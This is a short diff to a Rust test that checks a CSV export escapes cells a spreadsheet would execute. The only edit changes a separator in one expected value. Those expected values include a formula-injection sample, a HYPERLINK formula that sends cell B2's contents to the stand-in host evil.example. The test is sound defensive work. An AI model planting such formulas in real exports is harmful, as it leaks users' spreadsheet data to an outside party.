@@ -176,7 +176,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
     assert_eq!(&row[1], "'@evil");
     assert_eq!(
         &row[4],
-        "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\");Finance"
+        "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")\nFinance"
     );
     assert_eq!(&row[8], "orphaned");
     assert!(export.to_json().contains("\"user_name\": \"@evil\""));
